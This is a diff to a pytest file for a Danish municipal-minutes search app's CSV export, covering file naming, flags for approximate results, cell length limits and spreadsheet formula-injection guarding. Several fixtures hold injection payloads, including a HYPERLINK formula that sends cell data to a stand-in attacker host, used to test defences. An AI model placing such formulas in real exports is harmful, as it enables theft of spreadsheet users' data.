@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 from pathlib import Path
 from urllib.parse import parse_qs, urlsplit
 
@@ -73,7 +74,8 @@ def test_the_answer_is_a_utf8_download_with_a_bom_and_danish_letters_intact(clie
     answer = client.get("/api/search.csv", query_string={"q": "flygtninge", "municipality": "Næstved"})
     assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
     assert answer.headers["Content-Disposition"] == (
-        "attachment; filename=\"referatsog-flygtninge.csv\"; filename*=UTF-8''referatsog-flygtninge.csv")
+        "attachment; filename=\"referatsog-naestved-flygtninge.csv\"; "
+        "filename*=UTF-8''referatsog-n%C3%A6stved-flygtninge.csv")
     assert answer.data.startswith("\ufeffid,titel,dokumenttype,kommune,råd/udvalg,mødedato".encode())
     assert answer.data.count(b"\r\n") >= 2  # RFC 4180 line ends
     rows = rows_of(answer.data)
@@ -86,10 +88,49 @@ def test_the_file_name_is_ascii_safe_and_says_the_query_in_utf8_too(client):
     answer = client.get("/api/search.csv", query_string={"q": 'Ældre "boliger"/Næstved\r\n'})
     disposition = answer.headers["Content-Disposition"]
     assert disposition.isascii()
-    assert 'filename="referatsog-aeldre-boliger-naestved.csv"' in disposition
-    assert "filename*=UTF-8''referatsog-%C3%A6ldre-boliger-n%C3%A6stved.csv" in disposition
+    # no item has all three words: the hits are approximate, and the name says so
+    assert client.get("/api/search", query_string={"q": 'Ældre "boliger"/Næstved\r\n'}).get_json()["approximate"]
+    assert 'filename="referatsog-aeldre-boliger-naestved-omtrentlig.csv"' in disposition
+    assert "filename*=UTF-8''referatsog-%C3%A6ldre-boliger-n%C3%A6stved-omtrentlig.csv" in disposition
     everything = client.get("/api/search.csv")
     assert 'filename="referatsog-alle-punkter.csv"' in everything.headers["Content-Disposition"]
+
+
+def file_name(client, **params) -> str:
+    disposition = client.get("/api/search.csv", query_string=params).headers["Content-Disposition"]
+    return re.search(r'filename="([^"]*)"', disposition).group(1)
+
+
+def test_the_file_name_says_the_filters_and_an_excluded_word_as_excluded(client):
+    assert file_name(client, q="flygtninge", municipality="Næstved") == "referatsog-naestved-flygtninge.csv"
+    assert file_name(client, municipality="Næstved", year="2015") == "referatsog-naestved-2015.csv"
+    assert file_name(client, q="-flygtninge") == "referatsog-uden-flygtninge.csv"
+    assert file_name(client, q="integration NOT flygtninge") == "referatsog-integration-uden-flygtninge.csv"
+    # a long query is cut after a whole word, the name stays short and ASCII
+    long = file_name(client, q=" ".join(["integrationsrådet"] * 20))
+    assert long.isascii() and long.startswith("referatsog-integrationsraadet-") and long.endswith("raadet.csv")
+    assert len(long) <= len("referatsog-.csv") + exports.NAME_MAX + 10  # æøå written as two letters
+
+
+@pytest.mark.parametrize("query", ["boligg", "flygtnige"])
+def test_approximate_rows_are_flagged_in_a_header_the_file_name_and_the_page_s_link(client, query):
+    assert client.get("/api/search", query_string={"q": query}).get_json()["approximate"]
+    answer = client.get("/api/search.csv", query_string={"q": query})
+    assert rows_of(answer.data)
+    assert answer.headers[exports.APPROXIMATE_HEADER] == "1"
+    assert exports.APPROXIMATE_HEADER in answer.headers["Access-Control-Expose-Headers"]
+    assert f'filename="referatsog-{query}-omtrentlig.csv"' in answer.headers["Content-Disposition"]
+    assert soup(client.get("/", query_string={"q": query})).select_one("a.csv-link").get_text() == (
+        "Hent de omtrentlige resultater som CSV")
+
+
+def test_exact_rows_are_not_flagged_approximate(client, monkeypatch):
+    answer = client.get("/api/search.csv", query_string={"q": "flygtninge"})
+    assert exports.APPROXIMATE_HEADER not in answer.headers
+    assert "omtrentlig" not in answer.headers["Content-Disposition"]
+    assert soup(client.get("/", query_string={"q": "flygtninge"})).select_one("a.csv-link").get_text() == "Hent som CSV"
+    monkeypatch.setattr(exports, "CSV_MAX_ROWS", 2)  # approximate and beyond the cap: both said
+    assert exports.link_label(3, approximate=True) == "Hent de første 2 omtrentlige resultater som CSV"
 
 
 def test_a_filter_narrows_the_rows(client):
@@ -107,7 +148,7 @@ def test_the_decision_is_whole_and_plain_not_the_hit_s_first_lines(client):
     for r in rows:
         document = client.get(f"/api/document/{hits[r['id']]['document_id']}").get_json()
         whole = next(p["decision"] for p in document["passages"] if p["id"] == r["id"])
-        assert r["beslutning"] == whole
+        assert r["beslutning"] == exports.guarded(whole)  # whole, a line's formula start guarded
         assert "<mark>" not in r["beslutning"]
         longer += len(whole) > len(hits[r["id"]]["decision"])
     assert longer, "some decision is longer than a hit shows: the CSV must have it whole"
@@ -173,16 +214,21 @@ Godkendt.
 """
 
 
-def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_prefixed_with_an_apostrophe(tmp_path):
+def minutes_site(tmp_path, text: str):
+    """A site of one minutes file, `text`."""
     from indexer.update import update_index
 
     corpus = tmp_path / "corpus"
     corpus.mkdir()
-    (corpus / "tornby-socialudvalget-referat-2018-03-12.txt").write_text(HOSTILE_MINUTES, encoding="utf-8")
+    (corpus / "tornby-socialudvalget-referat-2018-03-12.txt").write_text(text, encoding="utf-8")
     report = update_index([corpus], tmp_path / "index")
     assert not report.skipped, report.skipped
-    client = create_app({"TESTING": True, "INDEX_DIR": str(tmp_path / "index"),
-                         "CORPUS_DIR": str(corpus)}).test_client()
+    return create_app({"TESTING": True, "INDEX_DIR": str(tmp_path / "index"),
+                       "CORPUS_DIR": str(corpus)}).test_client()
+
+
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_prefixed_with_an_apostrophe(tmp_path):
+    client = minutes_site(tmp_path, HOSTILE_MINUTES)
     rows = {r["titel"]: r for r in rows_of(client.get("/api/search.csv").data)}
     hostile = rows["Godkendelse af regnskab"]
     assert hostile["beslutning"] == "'=HYPERLINK(\"http://angriber.example/?d=\"&A1,\"Klik her\")"
@@ -195,11 +241,86 @@ def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_prefixed_with_an_apostro
 
 @pytest.mark.parametrize(("cell", "shown"), [
     ("=1+1", "'=1+1"), ("+45 12 34", "'+45 12 34"), ("-bolig", "'-bolig"), ("@navn", "'@navn"),
-    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("  =1", "'  =1"), ("\uff1d1", "'\uff1d1"),
+    ("\t=1", "'\t=1"), ("\r=1", "'\r'=1"), ("  =1", "'  =1"), ("\uff1d1", "'\uff1d1"),
     ("Godkendt = vedtaget", "Godkendt = vedtaget"), ("2015-05-21", "2015-05-21"), ("", ""),
 ])
 def test_guarded_cells(cell, shown):
     assert exports.guarded(cell) == shown
+
+
+def semicolon_cells(text: str) -> list[str]:
+    """Every cell a reader that splits on semicolons sees, as Danish Excel opens a CSV on a
+    double-click: a quote counts only at a cell's start ("" in it is one quote, text after its
+    closing quote is kept), a line break outside quotes ends the row."""
+    cells, at = [], 0
+    while at < len(text):
+        cell = ""
+        if text[at] == '"':
+            at += 1
+            while at < len(text):
+                if text[at] == '"' and text[at + 1:at + 2] == '"':
+                    cell, at = cell + '"', at + 2
+                elif text[at] == '"':
+                    at += 1
+                    break
+                else:
+                    cell, at = cell + text[at], at + 1
+        while at < len(text) and text[at] not in ";\r\n":
+            cell, at = cell + text[at], at + 1
+        cells.append(cell)
+        at += 1
+    return cells
+
+
+FORMULA = re.compile(r'[ \t\u00a0"]*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r]')
+
+# A decision a semicolon splits into cells, one of them a formula, also after a quote and on a
+# line of its own.
+SEMICOLON_MINUTES = HOSTILE_MINUTES.replace(
+    '=HYPERLINK("http://angriber.example/?d="&A1,"Klik her")',
+    'Godkendt;=1+1;flygtninge; "=HYPERLINK(""http://angriber.example"")"; \uff0b1;\t@SUM(A1)\n\n'
+    '- -2+3 stemte for\n- =1+1 imod\n\nEnig; 5 stemte for')
+
+
+def test_no_cell_a_semicolon_splitting_reader_sees_starts_a_formula(tmp_path):
+    client = minutes_site(tmp_path, SEMICOLON_MINUTES)
+    data = client.get("/api/search.csv").data
+    decision = {r["titel"]: r for r in rows_of(data)}["Godkendelse af regnskab"]["beslutning"]
+    assert decision.startswith("Godkendt;'=1+1;flygtninge;' \"=HYPERLINK(")
+    assert ";' +1;' @SUM(A1)\n\n'- -2+3 stemte for\n'- =1+1 imod\n\nEnig; 5 stemte for" in decision
+    seen = semicolon_cells(data[3:].decode("utf-8"))
+    assert "flygtninge" in seen and "'- =1+1 imod" in seen  # split on semicolons and line breaks
+    assert [cell for cell in seen if FORMULA.match(cell)] == []
+
+
+@pytest.mark.parametrize(("cell", "shown"), [
+    ("Godkendt;=1+1;flygtninge", "Godkendt;'=1+1;flygtninge"), ('a; "=1"', 'a;\' "=1"'), ("a;-5 kr.", "a;'-5 kr."),
+    ("a;\uff1d1", "a;'\uff1d1"), ("a;\t+1", "a;'\t+1"), ("a\n@b", "a\n'@b"), ("a\r\n=1", "a\r\n'=1"),
+    ("=1;=2", "'=1;'=2"), ("Godkendt; 5 for", "Godkendt; 5 for"), ("a;b", "a;b"), ("a;", "a;"),
+])
+def test_guarded_cells_after_a_semicolon_or_line_break(cell, shown):
+    assert exports.guarded(cell) == shown
+
+
+def test_a_cell_longer_than_excel_takes_is_cut_with_a_mark(tmp_path):
+    long_decision = "Godkendt. " + "Udvalget drøftede sagen grundigt. " * 1100  # 37,000+ characters
+    client = minutes_site(tmp_path, HOSTILE_MINUTES.replace(
+        '=HYPERLINK("http://angriber.example/?d="&A1,"Klik her")', long_decision))
+    rows = {r["titel"]: r for r in rows_of(client.get("/api/search.csv").data)}
+    cell = rows["Godkendelse af regnskab"]["beslutning"]
+    passage = client.get("/api/passage/" + rows["Godkendelse af regnskab"]["id"]).get_json()
+    document = client.get(f"/api/document/{passage['document_id']}").get_json()
+    whole = next(p["decision"] for p in document["passages"] if p["id"] == passage["id"])
+    assert len(whole) > exports.CELL_MAX  # the index has it whole: the CSV cuts it
+    assert len(cell) == exports.CELL_MAX and cell.endswith("[…]")
+    assert whole.startswith(cell.removesuffix(" […]"))
+    assert rows["Eventuelt"]["beslutning"] == "Godkendt."
+
+
+def test_fitted_counts_as_excel_counts():
+    assert exports.fitted("x" * exports.CELL_MAX) == "x" * exports.CELL_MAX
+    astral = exports.fitted("\U0001F600" * 20000)  # two UTF-16 units each in Excel
+    assert astral.endswith(" […]") and len(astral.encode("utf-16-le")) // 2 <= exports.CELL_MAX
 
 
 def test_the_search_page_links_the_csv_of_its_own_search(client):
@@ -293,3 +414,11 @@ def test_no_file_of_the_seeds_is_left_outside_the_export(client):
     rows = rows_of(client.get("/api/search.csv").data)
     sources = {r["kilde"] for r in rows}
     assert sources == {p.name for p in Path(SEEDS).iterdir() if p.is_file()}
+
+
+def test_the_cli_says_on_stderr_when_the_rows_are_approximate(runner, seed_index_dir):
+    approximate = run(runner, "search", "flygtnige", "--csv", "--index-dir", seed_index_dir)
+    assert approximate.exit_code == 0 and "omtrentlige resultater" in approximate.stderr
+    assert "omtrentlige" not in approximate.stdout and approximate.stdout.count("\n") > 1  # the CSV stays a CSV
+    exact = run(runner, "search", "flygtninge", "--csv", "--index-dir", seed_index_dir)
+    assert "omtrentlige" not in exact.stderr
